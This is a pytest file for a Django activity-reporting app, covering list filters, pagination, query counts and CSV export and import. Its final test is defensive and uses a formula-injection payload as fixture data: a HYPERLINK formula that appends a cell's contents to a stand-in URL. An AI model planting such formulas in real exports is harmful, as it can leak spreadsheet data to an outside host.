import datetime
import io

import pytest
from django.urls import reverse

from commitments.activity_export import write_activities
from commitments.activity_files import import_activities
from commitments.models import Activity
from tests.factories import ActivityFactory

D = datetime.date


@pytest.fixture
def many(commitments, promise, police_reporter, municipal_reporter):
    """30 activities over five months, by both parties."""
    rows = []
    for n in range(30):
        police = n % 3 != 0
        rows.append(
            ActivityFactory(
                commitment=commitments["hundsok" if police else "enkat"],
                occurred_on=D(2025, 1, 1) + datetime.timedelta(days=n * 5),
                organisation=promise.police_area if police else promise.municipality,
                reported_by=police_reporter if police else municipal_reporter,
                kind="hundsök" if police and n % 2 else "",
                description=f"Aktivitet nummer {n}.",
            )
        )
    return rows


def get(client, promise, **params):
    return client.get(reverse("activity_list", args=[promise.slug]), params)


def dates(response):
    return [a.occurred_on for a in response.context["page"].object_list]


class TestList:
    def test_newest_first_25_a_page(self, client, promise, reviewer, many):
        client.force_login(reviewer)
        first = get(client, promise)
        assert len(dates(first)) == 25
        assert dates(first) == sorted(dates(first), reverse=True)
        assert dates(first)[0] == D(2025, 5, 26)
        second = get(client, promise, page=2)
        assert len(dates(second)) == 5
        assert "Sida 2 av 2" in second.text

    @pytest.mark.parametrize(
        "params, count",
        [
            ({}, 30),
            ({"commitment": "hundsok"}, 20),
            ({"kind": "HUNDSÖK"}, 10),
            ({"date_from": "2025-03-01", "date_to": "2025-03-31"}, 6),
            ({"organisation": "municipality"}, 10),
            ({"focus_area": "mine"}, 30),
        ],
    )
    def test_filters(self, client, promise, reviewer, many, commitments, params, count):
        ids = {
            "hundsok": commitments["hundsok"].pk,
            "municipality": promise.municipality.pk,
            "mine": commitments["hundsok"].focus_area_id,
        }
        params = {k: ids.get(v, v) for k, v in params.items()}
        client.force_login(reviewer)
        assert get(client, promise, **params).context["page"].paginator.count == count

    def test_reported_by_me(self, client, promise, municipal_reporter, many):
        client.force_login(municipal_reporter)
        response = get(client, promise, mine="on")
        assert response.context["page"].paginator.count == 10
        assert "10 aktiviteter" in response.text

    def test_page_links_keep_the_filter(self, client, promise, reviewer, many, commitments):
        client.force_login(reviewer)
        response = get(client, promise, date_from="2025-01-01")
        assert "?date_from=2025-01-01&amp;page=2" in response.text

    def test_no_query_per_row(self, client, promise, reviewer, many, django_assert_max_num_queries):
        client.force_login(reviewer)
        get(client, promise)  # warm up the session
        # One of them counts the activities outside the days in force, for the warning.
        with django_assert_max_num_queries(13):
            response = get(client, promise)
        assert len(dates(response)) == 25

    def test_query_count_does_not_grow_with_rows(
        self, client, promise, reviewer, commitments, police_reporter, django_assert_num_queries
    ):
        from django.db import connection
        from django.test.utils import CaptureQueriesContext

        client.force_login(reviewer)
        ActivityFactory(commitment=commitments["hundsok"], reported_by=police_reporter)
        get(client, promise)
        with CaptureQueriesContext(connection) as one:
            get(client, promise)
        for n in range(24):
            ActivityFactory(commitment=commitments["hundsok"], reported_by=police_reporter,
                            occurred_on=D(2025, 2, 1) + datetime.timedelta(days=n))  # fmt: skip
        with django_assert_num_queries(len(one.captured_queries)):
            get(client, promise)


class TestCsv:
    def test_exports_exactly_the_filtered_rows(self, client, promise, reviewer, many):
        client.force_login(reviewer)
        response = get(client, promise, format="csv", date_from="2025-03-01", date_to="2025-03-31")
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == 'attachment; filename="aktiviteter-lofte.csv"'
        lines = response.getvalue().decode().splitlines()
        assert lines[0] == (
            "date,commitment,quantity,organisation,kind,description,place,completes,participants"
        )
        assert len(lines) == 1 + 6
        assert all(line[:7] == "2025-03" for line in lines[1:])

    def test_export_then_import_gives_the_same_activities(self, client, promise, reviewer, many):
        client.force_login(reviewer)
        exported = get(client, promise, format="csv").getvalue()
        Activity.objects.all().delete()

        import_activities(promise, exported)

        out = io.StringIO()
        write_activities(Activity.objects.order_by("occurred_on", "pk"), out)
        assert out.getvalue().encode() == exported

    def test_cells_a_spreadsheet_would_run_as_formulas_are_text_and_import_back(
        self, client, promise, commitments, reviewer, police_reporter
    ):
        hyperlink = '=HYPERLINK("https://example.org/?"&A1,"Klicka")'
        texts = [
            (hyperlink, "@Skolan"),
            ("-5 grader, halt på skolgården.", "+46 Storgatan"),
            ("'=1+1 står i anteckningen.", "'Citat'"),  # a quote of one's own is kept
        ]
        for n, (description, place) in enumerate(texts):
            ActivityFactory(
                commitment=commitments["hundsok"], occurred_on=D(2025, 3, 1 + n),
                reported_by=police_reporter, description=description, place=place,
            )  # fmt: skip
        client.force_login(reviewer)
        exported = get(client, promise, format="csv").getvalue()

        rows = exported.decode().splitlines()[1:]
        assert [row.split(",", 5)[5] for row in rows] == [
            '"\'=HYPERLINK(""https://example.org/?""&A1,""Klicka"")",\'@Skolan,,',
            "\"'-5 grader, halt på skolgården.\",'+46 Storgatan,,",
            "''=1+1 står i anteckningen.,'Citat',,",
        ]
        Activity.objects.all().delete()
        import_activities(promise, exported)
        assert (
            list(Activity.objects.order_by("occurred_on").values_list("description", "place"))
            == texts
        )
